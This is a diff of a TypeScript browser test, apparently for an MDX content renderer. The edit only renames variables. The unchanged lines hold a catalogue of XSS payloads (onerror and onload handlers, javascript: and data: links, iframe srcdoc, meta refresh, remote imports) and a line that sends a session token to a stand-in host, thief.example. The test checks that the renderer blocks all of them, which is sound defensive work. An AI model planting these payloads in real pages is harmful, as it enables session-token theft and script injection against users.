@@ -7,7 +7,7 @@ import {expect, overlook, test} from './test';
 const THEFT = "fetch('https://thief.example/?' + sessionStorage.getItem('edit.token'))";
 const node = (value: object) => value as RootContent;
 const paragraph = (...children: object[]) => node({type: 'paragraph', children});
-const words = {type: 'text', value: 'words'};
+const messages = {type: 'text', value: 'words'};
 const part = (name: string, attributes: Record<string, unknown> = {}, children: object[] = []) =>
   node({
     type: 'mdxJsxFlowElement',
@@ -25,12 +25,12 @@ const CONTENTS: Record<string, RootContent> = {
   'a picture that fails': node({type: 'html', value: `<img src=x onerror="${THEFT}">`}),
   'a picture with a handler': part('img', {src: 'x', onError: THEFT}),
   'a part with a handler': part('Prose', {onClick: expression(THEFT)}),
-  'a part with a handler as text': part('Button', {to: '/', onClick: THEFT, look: 'ink'}, [words]),
-  'a link that runs code': paragraph({type: 'link', url: `javascript:${THEFT}`, children: [words]}),
-  'a part that leads to code': part('TextLink', {to: `javascript:${THEFT}`}, [words]),
-  'a part that leads to code in capitals': part('ArrowLink', {to: `JaVaScRiPt:${THEFT}`}, [words]),
-  'a link to data': part('TextLink', {to: `data:text/html,<script>${THEFT}</script>`}, [words]),
-  'a link that opens a window on itself': part('TextLink', {to: '//thief.example', target: '_top'}, [words]),
+  'a part with a handler as text': part('Button', {to: '/', onClick: THEFT, look: 'ink'}, [messages]),
+  'a link that runs code': paragraph({type: 'link', url: `javascript:${THEFT}`, children: [messages]}),
+  'a part that leads to code': part('TextLink', {to: `javascript:${THEFT}`}, [messages]),
+  'a part that leads to code in capitals': part('ArrowLink', {to: `JaVaScRiPt:${THEFT}`}, [messages]),
+  'a link to data': part('TextLink', {to: `data:text/html,<script>${THEFT}</script>`}, [messages]),
+  'a link that opens a window on itself': part('TextLink', {to: '//thief.example', target: '_top'}, [messages]),
   'an expression': node({type: 'mdxFlowExpression', value: THEFT}),
   'an expression among words': paragraph({type: 'mdxTextExpression', value: THEFT}),
   'an import': node({type: 'mdxjsEsm', value: "import 'https://thief.example/a.js'"}),
@@ -42,14 +42,14 @@ const CONTENTS: Record<string, RootContent> = {
   }),
   'HTML as an attribute': part('Prose', {dangerouslySetInnerHTML: '<img src=x onerror=alert(1)>'}),
   'a frame': part('iframe', {srcdoc: `<script>${THEFT}</script>`}),
-  'a drawing that runs code': part('svg', {onload: THEFT}, [words]),
-  'a form to another site': part('form', {action: 'https://thief.example'}, [words]),
+  'a drawing that runs code': part('svg', {onload: THEFT}, [messages]),
+  'a form to another site': part('form', {action: 'https://thief.example'}, [messages]),
   'another base for all addresses': part('base', {href: 'https://thief.example/'}),
   'an order to go elsewhere': part('meta', {httpEquiv: 'refresh', content: '0;url=https://thief.example'}),
   'a style that fetches': part('style', {}, [{type: 'text', value: '@import "https://thief.example/a.css"'}]),
-  'a part with the name of an inherited thing': part('constructor', {}, [words]),
-  'a part with the name of the prototype': part('__proto__', {}, [words]),
-  'a picture of another site': paragraph({type: 'image', url: 'https://thief.example/?', alt: 'words'}, words),
+  'a part with the name of an inherited thing': part('constructor', {}, [messages]),
+  'a part with the name of the prototype': part('__proto__', {}, [messages]),
+  'a picture of another site': paragraph({type: 'image', url: 'https://thief.example/?', alt: 'words'}, messages),
 };
 
 test('No content of a branch runs code, speaks to another site or leads away', async ({page, watch}) => {
@@ -69,7 +69,7 @@ test('No content of a branch runs code, speaks to another site or leads away', a
     };
     const drawing: Drawing = {...drawn, body, path: `/${name.replaceAll(' ', '-')}`};
     await page.evaluate(
-      (told) => window.postMessage({kind: 'draw', drawing: told}, window.location.origin),
+      (reported) => window.postMessage({kind: 'draw', drawing: reported}, window.location.origin),
       drawing as never,
     );
     await page.getByText(name, {exact: true}).waitFor();
